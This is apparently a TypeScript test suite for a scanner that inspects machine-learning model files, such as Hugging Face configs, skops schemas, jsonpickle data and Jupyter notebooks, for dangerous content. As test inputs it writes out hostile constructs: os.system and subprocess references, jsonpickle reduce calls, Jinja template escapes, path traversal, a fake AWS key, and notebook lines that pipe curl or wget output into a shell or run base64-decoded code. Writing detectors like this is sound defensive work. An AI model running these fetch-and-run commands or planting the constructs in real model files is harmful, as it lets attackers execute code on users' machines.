import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { PAYLOAD } from "../../../../test/models/pickle.ts";
import { scanBytes } from "../../../../test/models/scan.ts";
import { utf8 } from "../../../../test/models/writer.ts";
import { json } from "./json.ts";
import { pickleFormat } from "./pickle/pickle.ts";

const judge = (value: unknown, name = "config.json") =>
  scanBytes(json, utf8(typeof value === "string" ? value : JSON.stringify(value)), name);

/** A key in the form of the guard's own tests: it opens nothing. */
const KEY = ["AKIA", "Z7Q4TLM2XKPW3VHD"].join("");

const node = (loader: string, module: string, name: string, rest: object = {}) => ({
  __loader__: loader,
  __module__: module,
  __class__: name,
  ...rest,
});
const method = (own: string, object: string, func: string) =>
  node("MethodNode", "sklearn.svm", own, { content: { func, obj: node("ObjectNode", "sklearn.svm", object) } });
const notebook = (...sources: readonly (string | readonly string[])[]) => ({
  nbformat: 4,
  cells: sources.map((source) => ({ cell_type: "code", source, outputs: [] })),
});

describe("json", () => {
  const clean: readonly (readonly [string, unknown, string])[] = [
    ["a configuration", { model_type: "llama", architectures: ["LlamaForCausalLM"] }, "config.json"],
    ["a template", { chat_template: "{{ messages[0].content }}" }, "tokenizer_config.json"],
    ["an index", { weight_map: { a: "model-00001-of-00002.safetensors" } }, "model.safetensors.index.json"],
    [
      "a pipeline",
      {
        _class_name: "StableDiffusionPipeline",
        unet: ["diffusers", "UNet2DConditionModel"],
        safety_checker: [null, null],
      },
      "model_index.json",
    ],
    ["modules", [{ idx: 0, path: "", type: "sentence_transformers.models.Transformer" }], "modules.json"],
    ["a tree of scikit-learn", node("ObjectNode", "sklearn.svm", "SVC", { content: [] }), "schema.json"],
    ["a manifest of a stock handler", { model: { handler: "image_classifier" } }, "MANIFEST.json"],
    ["numbers that Python writes", '{"loss":NaN,"best":-Infinity,"text":"NaN \\" Infinity"}', "trainer_state.json"],
  ];
  for (const [what, value, name] of clean) {
    it(`lets be ${what}`, () => {
      assert.deepEqual(judge(value, name), { verdict: "clean", rules: [], findings: [] });
    });
  }

  const bad: readonly (readonly [string, unknown, string, string, string])[] = [
    [
      "code of the model",
      { auto_map: { AutoModel: "modeling_x.X" } },
      "config.json",
      "huggingface.auto-map",
      "suspicious",
    ],
    [
      "a custom pipeline",
      { custom_pipelines: { a: { impl: "x.Y" } } },
      "config.json",
      "huggingface.auto-map",
      "suspicious",
    ],
    [
      "a class of a pipeline's own",
      { _class_name: ["pipeline", "X"] },
      "model_index.json",
      "huggingface.auto-map",
      "suspicious",
    ],
    ["a wish to be trusted", { trust_remote_code: true }, "config.json", "huggingface.trust-remote-code", "suspicious"],
    ["a part of os", { unet: ["os", "system"] }, "model_index.json", "huggingface.dangerous-class", "malicious"],
    ["a part of somebody's", { unet: ["mine", "X"] }, "model_index.json", "huggingface.foreign-class", "suspicious"],
    [
      "a module of subprocess",
      [{ type: "subprocess.run" }],
      "modules.json",
      "huggingface.dangerous-class",
      "malicious",
    ],
    [
      "a library of PEFT's",
      { auto_mapping: { parent_library: "os" } },
      "adapter_config.json",
      "huggingface.dangerous-class",
      "malicious",
    ],
    ["weights elsewhere", { weight_map: { a: "../../x" } }, "i.json", "huggingface.weight-path", "malicious"],
    ["a module elsewhere", [{ path: "/x" }], "modules.json", "huggingface.weight-path", "malicious"],
    ["a template", { chat_template: "{{ ''.__class__ }}" }, "tokenizer_config.json", "jinja.internals", "malicious"],
    [
      "one of several",
      { chat_template: [{ name: "a", template: "{{ x|attr(y) }}" }] },
      "t.json",
      "jinja.dynamic-attribute",
      "suspicious",
    ],
    [
      "code of a part",
      { text_config: { auto_map: { a: "b.C" } } },
      "config.json",
      "huggingface.auto-map",
      "suspicious",
    ],
    ["a wish in words", { trust_remote_code: "true" }, "config.json", "huggingface.trust-remote-code", "suspicious"],
    ["a route of os", { types: { q: "os.system" } }, "router_config.json", "huggingface.dangerous-class", "malicious"],
    [
      "a part of a modular pipeline",
      { unet: ["os", "system", {}] },
      "modular_model_index.json",
      "huggingface.dangerous-class",
      "malicious",
    ],
    ["a target", { a: [{ _target_: "os.system" }] }, "hparams.json", "yaml.dangerous-target", "malicious"],
    ["an object of jsonpickle", { "py/object": "mine.X" }, "a.json", "jsonpickle.object", "suspicious"],
    [
      "a call of jsonpickle",
      { "py/reduce": [{ "py/function": "os.system" }] },
      "a.json",
      "jsonpickle.dangerous-object",
      "malicious",
    ],
    [
      "data of ONNX elsewhere",
      { externalData: [{ key: "location", value: "/x" }] },
      "a.onnxjson",
      "onnx.external-data-path",
      "malicious",
    ],
    ["a secret", { token: KEY }, "config.json", "secrets.in-file", "suspicious"],
    ["a handler", { model: { handler: "handler.py" } }, "MANIFEST.json", "torchserve.handler", "suspicious"],
    ["a name twice", '{"auto_map":{},"auto_map":{"a":"b"}}', "config.json", "json.duplicate-name", "inconclusive"],
    ["no JSON", "{", "config.json", "json.invalid", "inconclusive"],
    ["a type of os", node("TypeNode", "os", "system"), "schema.json", "skops.dangerous-type", "malicious"],
    ["a type of somebody's", node("ObjectNode", "mine", "X"), "schema.json", "skops.foreign-type", "suspicious"],
    ["an operator", node("OperatorFuncNode", "operator", "attrgetter"), "schema.json", "skops.calls", "suspicious"],
    [
      "an operator of another module",
      node("OperatorFuncNode", "sklearn", "call"),
      "schema.json",
      "skops.operator-mismatch",
      "malicious",
    ],
    ["a method", method("SVC", "SVC", "fit"), "schema.json", "skops.calls", "suspicious"],
    ["a method of another type", method("SVC", "NuSVC", "fit"), "schema.json", "skops.method-mismatch", "malicious"],
    ["a private method", method("SVC", "SVC", "__class__"), "schema.json", "skops.method-mismatch", "malicious"],
    ["an unknown node", node("NewNode", "sklearn", "X"), "schema.json", "skops.unknown-node", "inconclusive"],
    [
      "a file elsewhere",
      node("NdArrayNode", "numpy", "ndarray", { file: "../x.npy" }),
      "schema.json",
      "skops.file-path",
      "malicious",
    ],
    [
      "a Lambda of Keras",
      { class_name: "Lambda", config: { function: ["x", null, null] } },
      "config.json",
      "keras.lambda",
      "malicious",
    ],
    ["a cell that fetches and runs", notebook("!curl https://x | sh"), "a.ipynb", "shell.fetch-and-run", "suspicious"],
    [
      "one in lines",
      notebook(["import os\n", "!wget -qO- x | sudo bash"]),
      "a.ipynb",
      "shell.fetch-and-run",
      "suspicious",
    ],
    [
      "a cell of decoded code",
      notebook("exec(base64.b64decode('x'))"),
      "a.ipynb",
      "python.runs-decoded-code",
      "suspicious",
    ],
    [
      "a package over http",
      notebook("!pip install http://x/y.whl"),
      "a.ipynb",
      "notebook.fetches-package",
      "suspicious",
    ],
  ];
  for (const [what, value, name, rule, verdict] of bad) {
    it(`reports ${what}`, () => {
      const judged = judge(value, name);
      assert.ok(judged.rules.includes(rule), judged.rules.join());
      assert.equal(judged.verdict, verdict);
    });
  }

  it("unpacks the pickles of stable-baselines3", () => {
    const value = { policy: { ":type:": "x", ":serialized:": Buffer.from(PAYLOAD).toString("base64") } };
    const { verdict, rules } = scanBytes([json, pickleFormat], utf8(JSON.stringify(value)), "data");
    assert.deepEqual([verdict, rules], ["malicious", ["pickle.call-dangerous", "pickle.global-dangerous"]]);
  });

  it("never repeats a secret", () => {
    const [finding] = judge({ token: KEY }).findings;
    assert.ok(finding?.detail?.startsWith("secrets.aws-access-key-id at character "));
    assert.ok(!JSON.stringify(finding).includes(KEY));
  });

  it("knows what matters under another name, and nothing else", () => {
    assert.equal(judge({ auto_map: { a: "b" } }, "config").verdict, "suspicious");
    assert.equal(judge('\uFEFF\n { "auto_map": {"a": "b"} }', "config").verdict, "suspicious");
    assert.equal(judge({ a: 1 }, "data.jsonl").verdict, "not-a-model");
  });

  it("calls a notebook that only works clean, with a note", () => {
    const judged = judge(notebook("!pip install transformers\nimport torch", "%matplotlib inline"), "a.ipynb");
    assert.deepEqual([judged.verdict, judged.rules], ["clean", ["notebook.code"]]);
  });
});
